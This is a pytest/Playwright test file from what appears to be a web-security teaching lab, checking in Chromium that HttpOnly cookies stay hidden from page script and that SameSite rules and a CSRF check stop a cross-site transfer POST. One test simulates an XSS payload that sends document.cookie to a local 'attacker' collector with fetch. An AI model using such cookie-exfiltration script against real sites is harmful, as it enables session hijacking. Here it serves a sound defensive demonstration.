"""Cookie rules only a browser enforces, checked in Chromium against what the server received.

HttpOnly: the browser sends the cookie but page script cannot read it (through jupyter-server-proxy, as a
learner opens the course's servers). SameSite: a page on another site (http://localhost:Q against the app on
http://127.0.0.1:P; ports alone do not make another site) gets only the SameSite=None cookie sent along, and
the CSRF check refuses its POST anyway.
"""

from __future__ import annotations

from urllib.parse import parse_qs, urlsplit

import pytest
from flask import Flask

import authlab
from authlab.browser_demo import (
    CSRF_COOKIE,
    SESSION_COOKIES,
    cookie_rules_app,
    cookies_received,
    cross_site_form_app,
    other_site_url,
)
from authlab.users import DEMO_USERS, Users

expect = pytest.importorskip("playwright.sync_api").expect
pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def users():
    return Users()  # hashing the demo passwords takes a moment: once per module


@pytest.fixture
def site(users):
    with authlab.serve(cookie_rules_app(users), name="browser-test-site", show=False) as server:
        yield server


@pytest.fixture
def collector():
    """An attacker's server on another site, where injected script sends what it could read."""
    app = Flask("browser-test-collector")
    app.add_url_rule("/collect", "collect", lambda: ("", 204))
    with authlab.serve(app, show=False) as server:
        yield server


def _sign_in(page) -> None:
    """Fill in and send the sign-in form of the page the browser shows."""
    page.fill("input[name=username]", "alice")
    page.fill("input[name=password]", DEMO_USERS["alice"])
    page.click("button[type=submit]")
    expect(page.locator("#user")).to_have_text("alice")


def _last(server: authlab.Server, method: str, path: str):
    """The last request for ``method path`` in the server's log (the browser also asks for /favicon.ico)."""
    return [exchange for exchange in server.log if (exchange.method, exchange.path) == (method, path)][-1]


def _names(document_cookie: str) -> set[str]:
    return {part.split("=", 1)[0].strip() for part in document_cookie.split(";") if "=" in part}


def test_httponly_cookies_are_sent_but_page_script_cannot_read_them(page, jupyter_server, site, collector):
    proxied = f"{jupyter_server.url}/proxy/{site.port}/"
    page.goto(f"{proxied}?token={jupyter_server.token}")  # the token signs this browser in to Jupyter too
    _sign_in(page)

    after_sign_in = _last(site, "GET", "/")  # the page the sign-in redirected to, through the proxy
    assert set(cookies_received(after_sign_in)) >= {*SESSION_COOKIES, CSRF_COOKIE}

    jar = {cookie["name"]: cookie for cookie in page.context.cookies()}
    assert all(jar[name]["httpOnly"] for name in SESSION_COOKIES) and not jar[CSRF_COOKIE]["httpOnly"]
    assert jar["session_none"]["secure"], "Chromium keeps a Secure cookie from http://127.0.0.1 (a secure context)"

    readable = _names(page.evaluate("document.cookie"))
    assert CSRF_COOKIE in readable and not readable & set(SESSION_COOKIES)
    expect(page.locator("#document-cookie")).not_to_contain_text("session_")

    # Script injected into the page (XSS) sends what it can read to another site: never the session.
    page.evaluate("url => fetch(url + '/collect?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors'})",
                  other_site_url(collector.url))
    stolen = _names(parse_qs(urlsplit(collector.log[-1].path).query)["c"][0])
    assert CSRF_COOKIE in stolen and not stolen & set(SESSION_COOKIES)


def test_the_sites_own_form_sends_every_cookie_and_the_token(page, site):
    page.goto(site.url + "/")
    _sign_in(page)
    page.click("form[action=transfer] button")
    expect(page.locator("h1")).to_have_text("Done")
    post = _last(site, "POST", "/transfer")
    assert post.status == 200
    assert set(cookies_received(post)) == {*SESSION_COOKIES, CSRF_COOKIE}
    assert post.request_headers["Sec-Fetch-Site"] == "same-origin"
    assert site.app.extensions["authlab.transfers"] == [("alice", "bob", "10")]


def test_cross_site_form_post_carries_only_the_samesite_none_cookie_and_is_refused(page, site):
    page.goto(site.url + "/")
    _sign_in(page)
    with authlab.serve(cross_site_form_app(site.url + "/transfer"), name="browser-test-other", show=False) as other:
        other_page = other_site_url(other.url) + "/"
        page.goto(other_page)  # its form submits itself to our /transfer
        expect(page.locator("h1")).to_have_text("Refused")
    post = _last(site, "POST", "/transfer")
    assert post.status == 403
    assert post.request_headers["Sec-Fetch-Site"] == "cross-site"  # localhost is another site than 127.0.0.1
    assert post.request_headers["Origin"] == other_page.rstrip("/")
    assert set(cookies_received(post)) == {"session_none"}  # Strict, Lax and the token stay home
    assert site.app.extensions["authlab.transfers"] == []


def test_following_a_link_from_another_site_sends_lax_but_not_strict(page, site):
    page.goto(site.url + "/")
    _sign_in(page)
    with authlab.serve(cross_site_form_app(site.url + "/transfer", auto_submit=False), name="browser-test-other",
                       show=False) as other:
        page.goto(other_site_url(other.url) + "/")
        with page.expect_navigation():
            page.evaluate("url => { window.location.href = url }", site.url + "/")  # a top-level GET from there
    arrival = _last(site, "GET", "/")
    assert arrival.request_headers["Sec-Fetch-Site"] == "cross-site"
    assert set(cookies_received(arrival)) == {"session_lax", "session_none"}
    expect(page.locator("#user")).to_have_text("alice")  # Lax keeps a user signed in who arrives by a link
